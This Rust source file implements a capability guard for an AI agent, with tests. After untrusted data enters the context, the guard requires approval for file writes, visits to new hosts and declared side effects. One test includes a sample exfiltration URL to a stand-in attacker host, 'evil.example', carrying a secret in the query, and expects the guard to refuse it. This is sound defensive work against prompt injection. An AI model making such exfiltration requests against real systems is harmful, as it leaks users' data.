//! The capability guard: once untrusted data (a file, a web page, program
//! output) has entered the context, a side-effecting call needs approval.
//!
//! Side-effecting calls: `files` writes, `browse` to a host not yet visited,
//! `python` whose code looks like it writes files (a static check before
//! the call; files the sandbox reports afterwards are logged too). A run
//! with a person at the terminal ([`Approval::Ask`]) asks them, default no;
//! a run without one ([`Approval::Deny`]) refuses. Every decision is kept
//! in [`Guard::log`] and shown with `--trace`.

use llmos_tools::{SideEffect, ToolOutput};
use serde_json::Value;
use std::collections::BTreeSet;

/// Who approves side effects after untrusted data entered the context.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Default)]
pub enum Approval {
    /// Nobody can be asked (non-interactive run): refuse.
    #[default]
    Deny,
    /// Allow everything, proposed writes included (tests, and runs without
    /// guards: `llmos agent --no-guards`, for evaluation only).
    AllowAll,
    /// Ask the user (a terminal on stdin): yes allows, anything else refuses.
    Ask,
}

/// Asks the user a yes/no question (the CLI: on the terminal).
pub type Asker = Box<dyn Fn(&str) -> bool + Send + Sync>;

/// What the guard decided.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Verdict {
    Allow,
    Refuse,
    /// Not a decision: something worth logging (e.g. files a sandbox wrote).
    Note,
}

/// One logged decision.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Decision {
    pub step: usize,
    pub tool: String,
    pub verdict: Verdict,
    pub reason: String,
}

impl std::fmt::Display for Decision {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let v = match self.verdict {
            Verdict::Allow => "allow",
            Verdict::Refuse => "REFUSE",
            Verdict::Note => "note",
        };
        write!(
            f,
            "guard: {v} {} (step {}): {}",
            self.tool, self.step, self.reason
        )
    }
}

/// The guard's state for one run.
#[derive(Debug, Default)]
pub struct Guard {
    pub approval: Approval,
    /// Where untrusted data first entered the context (tool and step).
    pub tainted_by: Option<(String, usize)>,
    visited_hosts: BTreeSet<String>,
    pub log: Vec<Decision>,
}

/// What a call would change, if anything, judged before running it.
pub fn side_effect_of(tool: &str, args: &Value) -> Option<String> {
    let s = |k: &str| args.get(k).and_then(Value::as_str).unwrap_or("");
    match tool {
        "files" if s("operation") == "write" => Some(format!("write the file {}", s("path"))),
        "browse" => Some(format!("fetch {}", s("url"))),
        "python" if writes_files(s("code")) => Some("run Python code that writes files".into()),
        _ => None,
    }
}

/// A conservative static check for Python code that writes files.
fn writes_files(code: &str) -> bool {
    const PATTERNS: [&str; 14] = [
        ".write(",
        ".writelines(",
        "write_text(",
        "write_bytes(",
        "to_csv(",
        "to_json(",
        "to_excel(",
        "savefig(",
        "os.remove",
        "os.rename",
        "shutil.",
        "unlink(",
        "mkdir(",
        "np.save",
    ];
    if PATTERNS.iter().any(|p| code.contains(p)) {
        return true;
    }
    // open(..., 'w' | 'a' | 'x' | '+'): look at the mode argument of each open(.
    code.match_indices("open(").any(|(i, _)| {
        let rest = &code[i..];
        let call = &rest[..rest.find(')').unwrap_or(rest.len())];
        call.split(',').skip(1).any(|a| {
            let a = a.trim().trim_start_matches("mode=");
            (a.starts_with('\'') || a.starts_with('"')) && a.contains(['w', 'a', 'x', '+'])
        })
    })
}

fn host_of(url: &str) -> String {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    let auth = rest.split(['/', '?', '#']).next().unwrap_or("");
    let auth = auth.rsplit_once('@').map_or(auth, |(_, h)| h);
    // Without the port: fetched hosts are recorded without one.
    let host = match auth.strip_prefix('[') {
        Some(v6) => v6.split(']').next().unwrap_or(""),
        None => auth.split(':').next().unwrap_or(""),
    };
    host.to_ascii_lowercase()
}

impl Guard {
    pub fn new(approval: Approval) -> Guard {
        Guard {
            approval,
            ..Guard::default()
        }
    }

    /// Whether untrusted data is in the context.
    pub fn tainted(&self) -> bool {
        self.tainted_by.is_some()
    }

    /// Hosts fetched in this run (lowercase, without ports).
    pub fn visited_hosts(&self) -> &BTreeSet<String> {
        &self.visited_hosts
    }

    /// Decides whether `tool(args)` may run now; logs and returns the decision.
    /// Nobody is asked: under [`Approval::Ask`] this refuses as [`Approval::Deny`] does.
    pub fn check(&mut self, step: usize, tool: &str, args: &Value) -> Decision {
        self.check_asking(step, tool, args, &mut |_| false)
    }

    /// [`check`](Guard::check), asking `ask` (a yes/no question for the user)
    /// where the policy is [`Approval::Ask`] and approval is needed.
    pub fn check_asking(
        &mut self,
        step: usize,
        tool: &str,
        args: &Value,
        ask: &mut dyn FnMut(&str) -> bool,
    ) -> Decision {
        self.check_call(step, tool, args, None, ask)
    }

    /// [`check_asking`](Guard::check_asking) for a call whose tool declares
    /// a side effect of its own (`Tool::side_effect`: an MCP tool not
    /// declared read-only), besides those the guard knows by name.
    pub fn check_call(
        &mut self,
        step: usize,
        tool: &str,
        args: &Value,
        declared: Option<String>,
        ask: &mut dyn FnMut(&str) -> bool,
    ) -> Decision {
        let mut effect = side_effect_of(tool, args).or(declared);
        if tool == "browse" {
            let host = host_of(args.get("url").and_then(Value::as_str).unwrap_or(""));
            if self.visited_hosts.contains(&host) {
                effect = None; // a host already visited is no new capability
            } else {
                effect = Some(format!("browse to a new host {host}"));
            }
        }
        let (verdict, reason) = match (effect, &self.tainted_by) {
            (None, _) => (Verdict::Allow, "no side effect".to_string()),
            (Some(e), None) => (Verdict::Allow, format!("{e}: no untrusted data in the context yet")),
            (Some(e), Some((src, at))) => match self.approval {
                Approval::AllowAll => (
                    Verdict::Allow,
                    format!("{e}: after untrusted data from {src} (step {at}); approved by policy allow-all"),
                ),
                Approval::Deny => (
                    Verdict::Refuse,
                    format!(
                        "{e}: a side effect after untrusted data entered the context (from {src}, step {at}) \
                         needs approval, and this run is non-interactive"
                    ),
                ),
                Approval::Ask => {
                    let q = format!(
                        "The agent wants to {e}, after untrusted data entered the context (from {src}, step {at})."
                    );
                    if ask(&q) {
                        (Verdict::Allow, format!("{e}: after untrusted data from {src} (step {at}); approved by the user"))
                    } else {
                        (Verdict::Refuse, format!("{e}: after untrusted data from {src} (step {at}); the user declined"))
                    }
                }
            },
        };
        let d = Decision {
            step,
            tool: tool.to_string(),
            verdict,
            reason,
        };
        self.log.push(d.clone());
        d
    }

    /// Under [`Approval::Ask`], asks whether to apply a write a tool proposed
    /// (`files` outside `--allow-writes`); logs and returns the decision.
    /// [`Approval::AllowAll`] approves it; [`Approval::Deny`] refuses (the
    /// write stays a proposal).
    pub fn approve_write(
        &mut self,
        step: usize,
        tool: &str,
        req: &llmos_tools::files::WriteRequest,
        ask: &mut dyn FnMut(&str) -> bool,
    ) -> Decision {
        let what = format!(
            "{} {} bytes to {}",
            if req.append { "append" } else { "write" },
            req.content.len(),
            req.path.display()
        );
        let after = match &self.tainted_by {
            Some((src, at)) => format!(", after untrusted data from {src} (step {at})"),
            None => String::new(),
        };
        let (verdict, reason) = if self.approval == Approval::AllowAll {
            (
                Verdict::Allow,
                format!("{what}{after}: approved by policy allow-all"),
            )
        } else if self.approval == Approval::Ask
            && ask(&format!("The agent wants to {what}{after}."))
        {
            (
                Verdict::Allow,
                format!("{what}{after}: approved by the user"),
            )
        } else if self.approval == Approval::Ask {
            (Verdict::Refuse, format!("{what}{after}: the user declined"))
        } else {
            (
                Verdict::Refuse,
                format!("{what}: needs the user's approval, and this run is non-interactive"),
            )
        };
        let d = Decision {
            step,
            tool: tool.to_string(),
            verdict,
            reason,
        };
        self.log.push(d.clone());
        d
    }

    /// Records what a call returned: untrusted content taints the context;
    /// fetched hosts count as visited; files written are noted.
    pub fn observe(&mut self, step: usize, tool: &str, out: &ToolOutput) -> Vec<Decision> {
        let mut notes = Vec::new();
        for e in &out.side_effects {
            match e {
                SideEffect::Fetched { host, .. } => {
                    self.visited_hosts.insert(host.to_ascii_lowercase());
                }
                SideEffect::FilesWritten(paths) => notes.push(Decision {
                    step,
                    tool: tool.to_string(),
                    verdict: Verdict::Note,
                    reason: format!(
                        "wrote {}{}",
                        paths.iter().map(|p| p.display().to_string()).collect::<Vec<_>>().join(", "),
                        if self.tainted() { " (after untrusted data)" } else { "" }
                    ),
                }),
                SideEffect::WriteProposed(req) => notes.push(Decision {
                    step,
                    tool: tool.to_string(),
                    verdict: Verdict::Refuse,
                    reason: format!(
                        "proposed write to {} not applied: needs the user's approval, and this run is non-interactive",
                        req.path.display()
                    ),
                }),
            }
        }
        if out.untrusted && self.tainted_by.is_none() {
            self.tainted_by = Some((tool.to_string(), step));
            notes.push(Decision {
                step,
                tool: tool.to_string(),
                verdict: Verdict::Note,
                reason: if self.approval == Approval::AllowAll {
                    "untrusted data entered the context (policy allow-all: side effects are not asked)".into()
                } else {
                    "untrusted data entered the context: side effects now need approval".into()
                },
            });
        }
        self.log.extend(notes.iter().cloned());
        notes
    }
}

impl crate::Agent {
    /// Asks the user (through [`Agent::ask`](crate::Agent::ask)); no one to ask is a no.
    pub(crate) fn confirm(&self, question: &str) -> bool {
        self.approval == Approval::Ask && self.ask.as_ref().is_some_and(|ask| ask(question))
    }

    /// Under [`Approval::Ask`], each write the call proposed is put to the
    /// user; approved ones are applied by the tool, declined ones become an
    /// error for the model. [`Approval::AllowAll`] applies them unasked;
    /// [`Approval::Deny`] leaves the proposal (refused and logged by
    /// [`Guard::observe`]).
    pub(crate) fn settle_writes(
        &self,
        step: usize,
        tool: &str,
        mut output: ToolOutput,
        guard: &mut Guard,
        on_event: &mut dyn FnMut(crate::Event),
    ) -> ToolOutput {
        if self.approval == Approval::Deny {
            return output;
        }
        let (proposed, rest): (Vec<SideEffect>, Vec<SideEffect>) = output
            .side_effects
            .drain(..)
            .partition(|e| matches!(e, SideEffect::WriteProposed(_)));
        output.side_effects = rest;
        let Some(t) = self.tools.iter().find(|t| t.name() == tool) else {
            return output;
        };
        for e in proposed {
            let SideEffect::WriteProposed(req) = e else {
                continue;
            };
            let d = guard.approve_write(step, tool, &req, &mut |q| self.confirm(q));
            on_event(crate::Event::Guard(&d));
            let done = if d.verdict == Verdict::Allow {
                t.apply_write(&req)
            } else {
                ToolOutput::error(format!(
                    "the user declined the write to {}; nothing was written. Do not retry it.",
                    req.path.display()
                ))
            };
            output.content = format!("{}\n{}", output.content.trim_end(), done.content);
            output.is_error |= done.is_error;
            output.side_effects.extend(done.side_effects);
        }
        output
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn python_write_detection() {
        assert!(writes_files("open('a.txt', 'w').write('x')"));
        assert!(writes_files("with open(\"o\", mode=\"a\") as f: pass"));
        assert!(writes_files("df.to_csv('x.csv')"));
        assert!(!writes_files("print(open('data.csv').read())"));
        assert!(!writes_files("print(2**200 // 7)"));
    }

    #[test]
    fn refuses_only_after_taint() {
        let mut g = Guard::new(Approval::Deny);
        let w = json!({"operation": "write", "path": "x", "content": "y"});
        assert_eq!(g.check(1, "files", &w).verdict, Verdict::Allow);
        g.observe(1, "files", &ToolOutput::ok("data").untrusted());
        assert!(g.tainted());
        assert_eq!(g.check(2, "files", &w).verdict, Verdict::Refuse);
        assert_eq!(
            g.check(2, "calculator", &json!({"expression": "1+1"}))
                .verdict,
            Verdict::Allow
        );
        assert_eq!(
            g.check(
                2,
                "browse",
                &json!({"url": "https://evil.example/?q=secret"})
            )
            .verdict,
            Verdict::Refuse
        );
    }

    /// The approval policy: nothing is asked before taint; after it, yes
    /// allows and no (or anything else) refuses; Deny never asks.
    #[test]
    fn approval_asks_only_after_taint() {
        let w = json!({"operation": "write", "path": "notes.txt", "content": "y"});
        let mut asked = Vec::new();
        let mut g = Guard::new(Approval::Ask);
        let d = g.check_asking(1, "files", &w, &mut |q| {
            asked.push(q.to_string());
            true
        });
        assert_eq!(d.verdict, Verdict::Allow);
        assert!(asked.is_empty(), "asked before taint: {asked:?}");
        g.observe(1, "browse", &ToolOutput::ok("page").untrusted());
        let d = g.check_asking(2, "files", &w, &mut |q| {
            asked.push(q.to_string());
            false
        });
        assert_eq!(d.verdict, Verdict::Refuse);
        assert!(d.reason.contains("the user declined"), "{}", d.reason);
        assert_eq!(asked.len(), 1);
        assert!(
            asked[0].contains("write the file notes.txt"),
            "{}",
            asked[0]
        );
        assert!(asked[0].contains("from browse"), "{}", asked[0]);
        let d = g.check_asking(3, "files", &w, &mut |_| true);
        assert_eq!(d.verdict, Verdict::Allow);
        assert!(d.reason.contains("approved by the user"), "{}", d.reason);
        // No side effect, no question.
        let d = g.check_asking(3, "calculator", &json!({"expression": "1"}), &mut |_| {
            panic!("asked about a calculator call")
        });
        assert_eq!(d.verdict, Verdict::Allow);
        // Every decision is logged (the taint note too).
        assert_eq!(
            g.log.iter().filter(|d| d.verdict != Verdict::Note).count(),
            4
        );

        let mut g = Guard::new(Approval::Deny);
        g.observe(1, "files", &ToolOutput::ok("data").untrusted());
        let d = g.check_asking(2, "files", &w, &mut |_| panic!("Deny must not ask"));
        assert_eq!(d.verdict, Verdict::Refuse);
        // `check` has nobody to ask: Ask refuses like Deny.
        let mut g = Guard::new(Approval::Ask);
        g.observe(1, "files", &ToolOutput::ok("data").untrusted());
        assert_eq!(g.check(2, "files", &w).verdict, Verdict::Refuse);
    }

    #[test]
    fn proposed_writes_are_asked_under_ask_only() {
        let req = llmos_tools::files::WriteRequest {
            path: "/tmp/x.txt".into(),
            content: "hello".into(),
            append: false,
        };
        let mut g = Guard::new(Approval::Ask);
        let mut q = String::new();
        let d = g.approve_write(1, "files", &req, &mut |s| {
            q = s.to_string();
            true
        });
        assert_eq!(d.verdict, Verdict::Allow);
        assert!(q.contains("write 5 bytes to /tmp/x.txt"), "{q}");
        assert_eq!(
            g.approve_write(2, "files", &req, &mut |_| false).verdict,
            Verdict::Refuse
        );
        let mut g = Guard::new(Approval::Deny);
        let d = g.approve_write(1, "files", &req, &mut |_| panic!("Deny must not ask"));
        assert_eq!(d.verdict, Verdict::Refuse);
        assert_eq!(g.log.len(), 1);
    }

    #[test]
    fn visited_host_is_not_new() {
        let mut g = Guard::new(Approval::Deny);
        let out = ToolOutput {
            content: "page".into(),
            untrusted: true,
            side_effects: vec![SideEffect::Fetched {
                host: "docs.python.org".into(),
                url: "https://docs.python.org/3/".into(),
            }],
            ..ToolOutput::default()
        };
        assert_eq!(
            g.check(1, "browse", &json!({"url": "https://docs.python.org/3/"}))
                .verdict,
            Verdict::Allow
        );
        g.observe(1, "browse", &out);
        assert_eq!(
            g.check(
                2,
                "browse",
                &json!({"url": "https://docs.python.org/3/library/"})
            )
            .verdict,
            Verdict::Allow
        );
        assert_eq!(
            g.check(2, "browse", &json!({"url": "https://other.org/"}))
                .verdict,
            Verdict::Refuse
        );
    }

    /// Regression: a host with a port counted as new on every visit after
    /// untrusted data (visits are recorded without the port).
    #[test]
    fn visited_host_with_a_port_is_not_new() {
        let mut g = Guard::new(Approval::Deny);
        let out = ToolOutput {
            content: "page".into(),
            untrusted: true,
            side_effects: vec![SideEffect::Fetched {
                host: "127.0.0.1".into(),
                url: "http://127.0.0.1:8080/a".into(),
            }],
            ..ToolOutput::default()
        };
        g.observe(1, "browse", &out);
        let again = json!({"url": "http://127.0.0.1:8080/b"});
        assert_eq!(g.check(2, "browse", &again).verdict, Verdict::Allow);
        assert_eq!(host_of("http://[::1]:9/x"), "::1");
        assert_eq!(host_of("https://u:p@Ex.org:443/"), "ex.org");
    }

    /// A tool that declares a side effect (an MCP tool not declared
    /// read-only) needs approval after untrusted data, like a files write.
    #[test]
    fn declared_side_effects_need_approval_after_taint() {
        let mut g = Guard::new(Approval::Deny);
        let send = || Some("call `send_email` of the MCP server `mail`".to_string());
        let args = json!({"to": "a@b.c"});
        assert_eq!(
            g.check_call(1, "send_email", &args, send(), &mut |_| false)
                .verdict,
            Verdict::Allow
        );
        g.observe(1, "read_email", &ToolOutput::ok("mail").untrusted());
        let d = g.check_call(2, "send_email", &args, send(), &mut |_| false);
        assert_eq!(d.verdict, Verdict::Refuse);
        assert!(d.reason.contains("send_email"), "{}", d.reason);
        // Declared read-only (no effect): allowed.
        assert_eq!(
            g.check_call(2, "read_email", &args, None, &mut |_| false)
                .verdict,
            Verdict::Allow
        );
    }
}
